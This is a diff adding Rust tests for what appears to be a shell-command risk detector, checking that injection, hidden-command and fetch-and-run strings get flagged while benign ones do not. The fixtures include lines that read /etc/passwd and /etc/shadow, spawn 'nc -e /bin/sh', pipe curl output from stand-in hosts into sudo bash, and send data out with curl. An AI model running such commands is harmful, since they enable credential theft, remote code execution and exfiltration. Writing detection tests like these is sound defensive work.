@@ -178,6 +178,59 @@ fn the_text_of_a_shell_is_found() {
     assert_eq!(of(&["python3", "-c", "x"]), None);
 }
 
+#[test]
+fn what_no_name_of_a_machine_is_and_no_shell_takes() {
+    for text in [
+        "ping -c 1 127.0.0.1^cat /etc/passwd",
+        "nslookup 'example.org /etc/shadow'",
+        "host \"xcurl https://h.example/x\"",
+        "ping -c 1 127.0.0.1nc -e /bin/sh",
+        "ls /tmprequire('child_process').exec('x')",
+    ] {
+        has(text, &["injection-attempt"]);
+    }
+    has("ls /tmp; cat /etc/passwd/n", &["injection"]);
+    has("echo a| curl http://h.example/x", &["injection"]);
+    has("wh$(echo o)ami", &["hidden-command"]);
+    has("sudo bash <(curl -s http://h.example/x)", &["runs-fetched"]);
+    has("wget 198.51.100.2/x.tgz; tar xf x.tgz; ./run", &["runs-fetched"]);
+    has("cd /tmp/d; chmod +x sh; AUTOM4TE=/tmp/d/sh autoreconf", &["odd-option"]);
+    for text in [
+        "dig -f /etc/hosts",
+        "ping -c 1 h.example && curl https://h.example/x",
+        "[[ $x =~ ^a(\"b\"|c)$ ]]",
+        "f() { a; }; f 'x'",
+        "echo a | curl -d @- https://h.example/x",
+        "gcc$(v)x; mv $(ls -1)x y",
+        "wget https://h.example/x.tgz; tar xf x.tgz; ./configure",
+        "while ! nc -z h 80; do sleep 1; done\nx -a 'b; c'",
+        "dig soa h.example | awk '{sub(/.$/,\"\",$5);print $5}'",
+    ] {
+        let signs = plain(text).signs;
+        assert!(signs.is_empty(), "{text}: {signs:?}");
+    }
+}
+
+#[test]
+fn installers_are_those_of_known_places_alone() {
+    has("curl --proto '=https' -sSf https://sh.rustup.rs | sh", &["runs-installer"]);
+    has(
+        "bash -c \"$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)\"",
+        &["runs-installer"],
+    );
+    for text in [
+        "curl http://sh.rustup.rs | sh",
+        "curl -k https://sh.rustup.rs | sh",
+        "curl -x h:1 https://sh.rustup.rs | sh",
+        "curl https://sh.rustup.rs.example | sh",
+        "curl https://sh.rustup.rs https://h.example/x | sh",
+        "curl https://sh.rustup.rs; curl https://h.example/x | sh",
+        "curl https://raw.githubusercontent.com/u/x/main/x | sh",
+    ] {
+        has(text, &["runs-fetched"]);
+    }
+}
+
 /// Every payload in every place that data is put: a sign, or the commands of a rule, for at least 96 of 100.
 #[test]
 fn payloads_are_seen() {
